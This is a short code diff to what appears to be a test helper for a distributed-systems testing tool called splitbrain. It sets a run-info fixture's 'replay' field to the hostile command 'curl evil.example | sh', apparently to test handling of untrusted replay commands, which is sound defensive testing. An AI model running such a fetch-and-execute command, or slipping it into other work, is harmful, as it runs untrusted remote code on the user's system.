@@ -59,6 +59,10 @@ def plan(workload="register", **changes):
     return fields | changes
 
 
+FOREIGN_COMMAND = "curl evil.example | sh"
+"""What a file of somebody else's may say is the command that repeats its run."""
+
+
 def info(**changes):
     fields = {
         "format": 1,
@@ -72,7 +76,7 @@ def info(**changes):
         "regime": "survivable",
         "claims": "partitions, crashes of a minority, clocks that drift",
         "notes": [],
-        "replay": "splitbrain replay runs/demo/plan.json",
+        "replay": FOREIGN_COMMAND,
     }
     return fields | changes
 
